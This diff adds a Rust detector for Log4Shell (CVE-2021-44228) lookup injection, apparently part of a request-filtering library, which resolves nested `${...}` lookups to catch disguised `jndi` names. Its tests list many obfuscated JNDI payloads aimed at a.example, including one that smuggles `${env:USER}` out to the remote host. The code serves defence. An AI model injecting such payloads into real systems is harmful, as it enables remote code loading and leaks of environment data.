@@ -1,0 +1,130 @@
+//! Lookups of log4j.
+//!
+//! What it does: evaluates `${prefix:key:-default}` as log4j 2 would, nested as deep as it may be, with a bounded stack and
+//! buffer, and asks what name a lookup has once its inner ones are resolved: `${${lower:j}n${::-d}i:...}` is `${jndi:...}`.
+//! What another machine's variables hold is not known; their default is what they resolve to.
+//!
+//! Why it is dangerous: `jndi` loads code from another machine (CVE-2021-44228); other lookups tell keys and variables.
+//!
+//! References: <https://logging.apache.org/log4j/2.x/manual/lookups.html>.
+
+mod lookup;
+
+use portcullis_types::Span;
+
+use self::lookup::{Event, Resolver};
+use crate::{ByteGroups, Class, Detector, Found, Hint, Input, Kind, kinds};
+
+kinds! {
+    reference "https://logging.apache.org/security.html#CVE-2021-44228";
+    JNDI "log4j.jndi" Critical "a lookup by JNDI, which loads code from another machine";
+    BUILT "log4j.built" Error "lookups inside a lookup make up its name or text letter by letter";
+    NAMELESS "log4j.nameless" Error "a lookup without a name that stands for its default: `${::-x}`";
+    CASE "log4j.case" Warning "a lookup that changes case or decodes: lower, upper, base64, date with a quoted text";
+    VARIABLE "log4j.variable" Warning "a lookup of a variable of the system: env, sys, java, ...";
+}
+
+/// See the module.
+#[derive(Debug)]
+pub struct Log4j;
+
+impl Detector for Log4j {
+    fn class(&self) -> Class {
+        Class::Log4j
+    }
+
+    fn kinds(&self) -> &'static [Kind] {
+        KINDS
+    }
+
+    fn needs(&self) -> ByteGroups {
+        const NEEDS: ByteGroups = ByteGroups::of(b"$");
+        NEEDS
+    }
+
+    fn hints(&self) -> &[Hint] {
+        const HINTS: &[Hint] = &[Hint::text("${")];
+        HINTS
+    }
+
+    fn detect(&self, input: &Input<'_>, found: &mut Found<'_>) {
+        let mut resolver = Resolver::new(input.text);
+        while let Some((event, start, end)) = resolver.next_event() {
+            let kind = match event {
+                Event::Jndi => JNDI,
+                Event::Built => BUILT,
+                Event::Nameless => NAMELESS,
+                Event::Case => CASE,
+                Event::Variable => VARIABLE,
+            };
+            found.add(kind, Span::new(start, end));
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::{Analysis, Detectors, Level, Location, Place};
+
+    fn kinds(text: &str) -> (String, bool) {
+        let detectors = Detectors::new();
+        let mut analysis = Analysis::new();
+        analysis.value(&detectors, Location::new(Place::Header, b"X-Api-Version"), text.as_bytes());
+        let of_this = analysis.findings().iter().filter(|f| f.kind.id.starts_with("log4j."));
+        let names: Vec<&str> = of_this.map(|f| &f.kind.id["log4j.".len()..]).collect();
+        let blocks =
+            analysis.scores(&detectors).any(|s| s.class.name() == "log4j" && s.blocks(Level::Balanced));
+        (names.join(" "), blocks)
+    }
+
+    #[track_caller]
+    fn check(text: &str, want: &str, blocked: bool) {
+        let (have, blocks) = kinds(text);
+        for kind in want.split_whitespace() {
+            assert!(have.split_whitespace().any(|k| k == kind), "{text}: {have}");
+        }
+        assert_eq!(blocks, blocked, "{text}: {have}");
+    }
+
+    #[test]
+    fn jndi_however_it_is_written() {
+        check("${jndi:ldap://a.example/x}", "jndi", true);
+        check("Mozilla ${JnDi:rmi://a.example/x} x", "jndi", true);
+        check("${${lower:j}${upper:n}d${lower:I}:ldap://a.example}", "jndi built case", true);
+        check("${${::-j}${::-n}${::-d}${::-i}:dns://a.example}", "jndi nameless", true);
+        check("${${env:NOPE:-j}ndi${env:NOPE:-:}${sys:x:-l}dap://a.example}", "jndi built", true);
+        check("${j${${:-l}${:-o}${:-w}${:-e}${:-r}:n}di:ldap://a.example}", "jndi", true);
+        check("${jnd${upper:\u{131}}:ldap://a.example}", "jndi", true);
+        check("${${date:'j'}${date:'n'}di:ldap://a.example}", "jndi", true);
+        check("${${base64:am5kaTpsZGFwOi8vYS5leGFtcGxl}}", "jndi", true);
+        check("${jndi:ldap://a.example/${env:USER}", "jndi", true);
+        check("$${jndi:ldap://a.example/}", "jndi", true);
+        check("%24%7bjndi:ldap://a.example%7d", "jndi", true);
+        check("\\u0024\\u007bjndi:ldap://a.example}", "jndi", true);
+        check("${ctx:loginId:-${jndi:dns://a.example}}", "jndi", true);
+    }
+
+    #[test]
+    fn not_log4j() {
+        for text in [
+            "Dear ${customer.name}, total: ${order.total}",
+            "${variable} in bash",
+            "image: ${REGISTRY:-docker.io}/app:${TAG:-latest}",
+            "`v=${v}` and ${items.map(i => `${i}`)}",
+            "${{ github.ref }}",
+            "jndi lookup what is it",
+            "region: ${env:AWS_REGION}",
+            "${",
+            "}}}}${}",
+        ] {
+            check(text, "", false);
+        }
+    }
+
+    #[test]
+    fn hostile_nesting_ends() {
+        for unit in ["${", "${${lower:", "${::-", "${a:-", "}", "${x}", "${base64:"] {
+            kinds(&unit.repeat(20_000));
+        }
+    }
+}
